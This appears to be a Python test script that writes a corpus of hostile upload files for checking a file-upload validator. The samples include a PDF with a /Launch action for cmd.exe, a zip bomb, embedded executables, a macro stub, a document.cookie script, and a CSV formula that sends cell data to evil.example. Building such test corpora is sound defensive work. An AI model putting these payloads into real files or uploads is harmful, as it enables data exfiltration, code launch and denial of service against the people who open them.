"""Write the hostile upload corpus into tests/hostile/corpus/: `python -m tests.hostile.make_corpus`.

Each file is something a real attacker (or a broken tool) sends; `CORPUS` says what the upload
check must answer. The oversized file is made in the test itself rather than committed.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pypdf
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.documents import _zip, odf, ooxml, pdf

FOLDER = Path(__file__).parent / "corpus"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run"


def _pdf_with(change) -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(width=595, height=842)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _launch(writer: pypdf.PdfWriter) -> None:
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/Launch"),
        NameObject("/F"): TextStringObject("cmd.exe"),
    })


def _bomb() -> bytes:
    # 150 MB of zeros in one part packs to about 150 KB: a ratio near 1,000.
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", ooxml_types())
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            block = b"\x00" * (1024 * 1024)
            for _ in range(150):
                part.write(block)
    return out.getvalue()


def ooxml_types() -> bytes:
    return zipfile.ZipFile(io.BytesIO(ooxml("docx"))).read("[Content_Types].xml")


def _png_header_only(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b"")


def corpus() -> dict[str, bytes]:
    good = pdf()
    return {
        "exe-only.docx": _zip({"invoice.exe": EXE}),
        "exe-inside.xlsx": ooxml("xlsx", {"xl/media/invoice.exe": EXE}),
        "nested-archive.odt": odf("odt", {"Pictures/more.zip": _zip({"a.txt": b"x"})}),
        "macros.docx": ooxml("docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64}),
        "zip-bomb.docx": _bomb(),
        "plain-zip.xlsx": _zip({"data.xml": b"<data/>"}),
        "odt-named.ods": odf("odt"),
        "javascript.pdf": _pdf_with(lambda w: w.add_open_action(JavaScript("app.alert('hello');"))),
        "launch.pdf": _pdf_with(_launch),
        "embedded-file.pdf": _pdf_with(lambda w: w.add_attachment("payload.exe", EXE)),
        "html-after-pdf-header.pdf": b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n"
                                     b"%%EOF\n",
        "truncated.pdf": good[: len(good) * 2 // 3],
        "no-pages.pdf": b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
        "nul.csv": b"code,description\n8471,Computers\x00\n",
        "formula.csv": b"code,description\n8471,=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")\n",
        "latin1.csv": "code;description\n8471;Ordinateurs portables, acheté\n".encode("latin-1"),
        "web-page.txt": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n",
        "truncated.png": _png_header_only(40, 30)[:-20],
        "huge-pixels.png": _png_header_only(20_000, 20_000),
        "renamed.pdf": EXE,
    }


def main() -> None:
    FOLDER.mkdir(exist_ok=True)
    for name, content in corpus().items():
        (FOLDER / name).write_bytes(content)
        print(f"{name}: {len(content):,} bytes")


if __name__ == "__main__":
    main()
